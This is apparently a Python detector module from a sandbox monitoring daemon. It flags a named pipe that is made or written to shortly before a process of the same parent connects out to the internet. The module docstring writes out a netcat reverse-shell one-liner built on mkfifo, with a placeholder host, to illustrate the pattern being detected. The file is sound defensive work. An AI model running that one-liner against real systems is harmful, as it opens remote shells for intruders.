"""A shell tied to a connection by a named pipe: `mkfifo f; sh <f 2>&1 | nc host port >f`."""

from __future__ import annotations

import errno
from collections.abc import Iterator

from daemon.events import Connected, Event, File, FileKind, FileOpened, NodeMade
from daemon.expectation import Expectation
from daemon.findings import Category, Finding, Rule, Severity, finding
from detectors import Detector
from detectors.addresses import is_internet, is_loopback
from detectors.bounded import PerSandbox, Recent
from detectors.evidence import clip, program

FIFO_SHELL = Rule(
    id="fifo-shell",
    title="A named pipe was tied to a network connection",
    category=Category.PROCESS,
    severity=Severity.HIGH,
    techniques=("T1059.004", "T1095"),
    why="Within seconds a named pipe was made or written to, and a process of the same pipeline "
    "connected out. This is how a reverse shell is built from tools that cannot start a program.",
    remedy="Stop the sandbox. Find the connection's other end, and how the first command came in.",
)

SPAN_NS = 10_000_000_000


class FifoShell(Detector):
    """The processes of a pipeline have one parent, and so has the mkfifo before them. To have written to the
    pipe tells more than to have made it: a script may log through one.
    """

    rules = (FIFO_SHELL,)
    events = (NodeMade, FileOpened, Connected)
    syscalls = frozenset({"mknod", "mknodat", "connect"})

    def __init__(self) -> None:
        self._made: PerSandbox[Recent[int]] = PerSandbox(lambda: Recent(SPAN_NS))
        self._written: PerSandbox[Recent[int]] = PerSandbox(lambda: Recent(SPAN_NS))
        """For which parent."""

    def detect(self, event: Event, sandbox: Expectation) -> Iterator[Finding]:
        if isinstance(event, Connected):
            yield from self._connected(event)
        elif isinstance(event, NodeMade) and _is_fifo(event.file):
            for pid in (event.process.pid, event.process.ppid):  # mkfifo can be a command of the shell itself
                self._made.of(event.sandbox).add(pid, event.time_ns)
        elif isinstance(event, FileOpened) and _is_fifo(event.file) and event.write:
            self._written.of(event.sandbox).add(event.process.ppid, event.time_ns)

    def forget(self, sandbox: str) -> None:
        self._made.forget(sandbox)
        self._written.forget(sandbox)

    def _connected(self, event: Connected) -> Iterator[Finding]:
        severity = self._severity(event)
        if severity is not None and _goes_out(event):
            yield finding(
                FIFO_SHELL,
                event,
                severity=severity,
                identifier=f"{clip(event.address)}:{event.port}",
                address=clip(event.address),
                port=event.port,
                program=program(event),
            )

    def _severity(self, event: Connected) -> Severity | None:
        parent, now_ns = event.process.ppid, event.time_ns
        if self._written.of(event.sandbox).has(parent, now_ns):
            return Severity.HIGH
        return Severity.MEDIUM if self._made.of(event.sandbox).has(parent, now_ns) else None


def _is_fifo(file: File) -> bool:
    return file.kind == FileKind.FIFO


def _goes_out(event: Connected) -> bool:
    stands = event.succeeded or event.result == -errno.EINPROGRESS
    return stands and is_internet(event.family) and not is_loopback(event.address)
